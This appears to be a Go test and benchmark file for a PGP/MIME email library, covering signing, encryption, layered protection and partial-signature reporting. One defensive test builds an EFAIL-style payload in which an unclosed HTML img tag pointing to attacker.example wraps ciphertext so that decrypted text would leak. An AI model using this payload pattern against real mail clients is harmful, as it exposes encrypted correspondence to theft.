@@ -1,0 +1,231 @@
+package flow
+
+import (
+	"bytes"
+	"fmt"
+	"io"
+	"strings"
+	"testing"
+
+	"github.com/ProtonMail/go-crypto/openpgp/packet"
+	openpgp "github.com/ProtonMail/go-crypto/openpgp/v2"
+
+	"github.com/mailseal/mailseal"
+	"github.com/mailseal/mailseal/mime"
+	"github.com/mailseal/mailseal/pgp"
+)
+
+func newKey(t testing.TB, name, email string) *openpgp.Entity {
+	t.Helper()
+	e, err := openpgp.NewEntity(name, "", email, &packet.Config{Algorithm: packet.PubKeyAlgoEdDSA})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return e
+}
+
+type fixture struct {
+	alice, bob *openpgp.Entity
+	op         *OpenPGP
+}
+
+func newFixture(t testing.TB) *fixture {
+	f := &fixture{alice: newKey(t, "Alice", "alice@example.org"), bob: newKey(t, "Bob", "bob@example.org")}
+	f.op = &OpenPGP{Engine: pgp.New(mailseal.DefaultPolicy()), Keyring: pgp.Keyring{
+		Certs:   openpgp.EntityList{f.alice, f.bob},
+		Secrets: openpgp.EntityList{f.bob},
+	}}
+	return f
+}
+
+func parse(t testing.TB, data []byte) *mime.Message {
+	t.Helper()
+	m, err := mime.Parse(bytes.NewReader(data), mime.DefaultLimits(), 1<<20)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { m.Close() })
+	return m
+}
+
+func open(t testing.TB, f *fixture, data []byte, opts Options) *Result {
+	t.Helper()
+	opts.Limits = mime.DefaultLimits()
+	opts.MemLimit = 1 << 20
+	res, err := Open(parse(t, data), []Engine{f.op}, opts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { res.Close() })
+	return res
+}
+
+const plainMsg = "From: Alice <alice@example.org>\r\nTo: Bob <bob@example.org>\r\nSubject: hi\r\n" +
+	"Content-Type: text/plain; charset=us-ascii\r\n\r\nHello Bob.\r\n"
+
+func TestSignThenOpen(t *testing.T) {
+	f := newFixture(t)
+	var signed bytes.Buffer
+	if err := f.op.Sign(&signed, parse(t, []byte(plainMsg)), f.alice); err != nil {
+		t.Fatal(err)
+	}
+	res := open(t, f, signed.Bytes(), Options{})
+	if res.Report.Status != mailseal.StatusGood || res.Report.Protocol != mailseal.ProtocolOpenPGP {
+		t.Fatalf("report %+v", res.Report)
+	}
+	// Decrypting a signed-only message is an error, not a pass-through.
+	_, err := Open(parse(t, signed.Bytes()), []Engine{f.op}, Options{Decrypt: true, Limits: mime.DefaultLimits()})
+	if mailseal.ExitCode(err) != mailseal.ExitVerification {
+		t.Fatalf("decrypt of a signed message: %v", err)
+	}
+	// Nested in multipart/mixed with unsigned text: partial, signed_part 1.
+	nested := "From: Alice <alice@example.org>\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n" +
+		signed.String() + "\r\n--b\r\nContent-Type: text/plain\r\n\r\nunsigned\r\n--b--\r\n"
+	res = open(t, f, []byte(nested), Options{})
+	if res.Report.Status != mailseal.StatusPartial || res.Report.SignedPart != "1" || len(res.Report.Unprotected) != 1 {
+		t.Fatalf("nested report %+v", res.Report)
+	}
+	// Named explicitly, the part is judged alone.
+	res = open(t, f, []byte(nested), Options{Part: "1"})
+	if res.Report.Status != mailseal.StatusGood {
+		t.Fatalf("--part 1 report %+v", res.Report)
+	}
+}
+
+func TestEncryptThenOpen(t *testing.T) {
+	f := newFixture(t)
+	for _, sign := range []bool{false, true} {
+		t.Run(fmt.Sprint("sign=", sign), func(t *testing.T) {
+			var signer *openpgp.Entity
+			if sign {
+				signer = f.alice
+			}
+			var enc bytes.Buffer
+			msg := strings.Replace(plainMsg, "Subject: hi\r\n", "Subject: hi\r\nBcc: carol@example.org\r\n", 1)
+			if err := f.op.Encrypt(&enc, parse(t, []byte(msg)), []*openpgp.Entity{f.bob}, signer); err != nil {
+				t.Fatal(err)
+			}
+			if strings.Contains(enc.String(), "Bcc") || strings.Contains(enc.String(), "Hello Bob") {
+				t.Fatal("Bcc or plaintext in the encrypted message")
+			}
+			res := open(t, f, enc.Bytes(), Options{Decrypt: true})
+			want := mailseal.StatusUnsigned
+			if sign {
+				want = mailseal.StatusGood
+			}
+			if res.Report.Status != want || !res.Report.Encrypted || res.Report.Integrity == "" {
+				t.Fatalf("report %+v", res.Report)
+			}
+			var out bytes.Buffer
+			if err := mime.WriteMessage(&out, res.Outer, res.Inner); err != nil {
+				t.Fatal(err)
+			}
+			if !strings.Contains(out.String(), "Subject: hi\r\n") || !strings.Contains(out.String(), "\r\n\r\nHello Bob.\r\n") {
+				t.Fatalf("decrypted message:\n%s", out.String())
+			}
+		})
+	}
+}
+
+// Sign-then-encrypt as separate layers (RFC 3156 §6.1): the inner
+// multipart/signed is verified after decryption.
+func TestEncryptedSignedLayers(t *testing.T) {
+	f := newFixture(t)
+	var signed, enc bytes.Buffer
+	if err := f.op.Sign(&signed, parse(t, []byte(plainMsg)), f.alice); err != nil {
+		t.Fatal(err)
+	}
+	if err := f.op.Encrypt(&enc, parse(t, signed.Bytes()), []*openpgp.Entity{f.bob}, nil); err != nil {
+		t.Fatal(err)
+	}
+	res := open(t, f, enc.Bytes(), Options{Decrypt: true})
+	if res.Report.Status != mailseal.StatusGood || len(res.Report.Signers) != 1 {
+		t.Fatalf("report %+v", res.Report)
+	}
+}
+
+func TestNestedCiphertextIsNotOpened(t *testing.T) {
+	f := newFixture(t)
+	var enc bytes.Buffer
+	if err := f.op.Encrypt(&enc, parse(t, []byte(plainMsg)), []*openpgp.Entity{f.bob}, nil); err != nil {
+		t.Fatal(err)
+	}
+	wrapped := "From: Alice <alice@example.org>\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n" +
+		"Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n--b\r\n" + enc.String() +
+		"\r\n--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n"
+	res := open(t, f, []byte(wrapped), Options{Decrypt: true})
+	if res.Report.Status != mailseal.StatusPartial || res.Inner != nil || res.Report.EncryptedPart != "2" {
+		t.Fatalf("report %+v inner %v", res.Report, res.Inner != nil)
+	}
+	res = open(t, f, []byte(wrapped), Options{Decrypt: true, Part: "2"})
+	body, _ := io.ReadAll(res.Inner)
+	if !bytes.Contains(body, []byte("Hello Bob.")) || bytes.Contains(body, []byte("attacker")) {
+		t.Fatalf("--part 2 gave %q", body)
+	}
+}
+
+func benchMessage(size int) []byte {
+	var b bytes.Buffer
+	b.WriteString("From: Alice <alice@example.org>\r\nTo: Bob <bob@example.org>\r\nSubject: bench\r\n" +
+		"Content-Type: text/plain; charset=us-ascii\r\n\r\n")
+	for b.Len() < size {
+		b.WriteString("The quick brown fox jumps over the lazy dog, again and again and again.\r\n")
+	}
+	return b.Bytes()
+}
+
+// Benchmarks of whole PGP/MIME messages: parse, protect/open, write.
+func BenchmarkMessages(b *testing.B) {
+	f := newFixture(b)
+	for _, size := range []int{4 << 10, 10 << 20} {
+		msg := benchMessage(size)
+		var signed, enc bytes.Buffer
+		f.op.Sign(&signed, parse(b, msg), f.alice)
+		f.op.Encrypt(&enc, parse(b, msg), []*openpgp.Entity{f.bob}, f.alice)
+		name := fmt.Sprintf("%dKiB", size>>10)
+		b.Run("sign/"+name, func(b *testing.B) {
+			b.SetBytes(int64(len(msg)))
+			b.ReportAllocs()
+			for i := 0; i < b.N; i++ {
+				m, _ := mime.Parse(bytes.NewReader(msg), mime.DefaultLimits(), 1<<20)
+				if err := f.op.Sign(io.Discard, m, f.alice); err != nil {
+					b.Fatal(err)
+				}
+				m.Close()
+			}
+		})
+		b.Run("encrypt+sign/"+name, func(b *testing.B) {
+			b.SetBytes(int64(len(msg)))
+			b.ReportAllocs()
+			for i := 0; i < b.N; i++ {
+				m, _ := mime.Parse(bytes.NewReader(msg), mime.DefaultLimits(), 1<<20)
+				if err := f.op.Encrypt(io.Discard, m, []*openpgp.Entity{f.bob}, f.alice); err != nil {
+					b.Fatal(err)
+				}
+				m.Close()
+			}
+		})
+		for _, c := range []struct {
+			name    string
+			data    []byte
+			decrypt bool
+		}{{"verify", signed.Bytes(), false}, {"decrypt+verify", enc.Bytes(), true}} {
+			b.Run(c.name+"/"+name, func(b *testing.B) {
+				b.SetBytes(int64(len(msg)))
+				b.ReportAllocs()
+				for i := 0; i < b.N; i++ {
+					m, _ := mime.Parse(bytes.NewReader(c.data), mime.DefaultLimits(), 1<<20)
+					res, err := Open(m, []Engine{f.op}, Options{Decrypt: c.decrypt, Limits: mime.DefaultLimits(), MemLimit: 1 << 20})
+					if err != nil || res.Report.Status != mailseal.StatusGood {
+						b.Fatalf("%v %+v", err, res)
+					}
+					if res.Inner != nil {
+						io.Copy(io.Discard, res.Inner)
+					}
+					res.Close()
+					m.Close()
+				}
+			})
+		}
+	}
+}
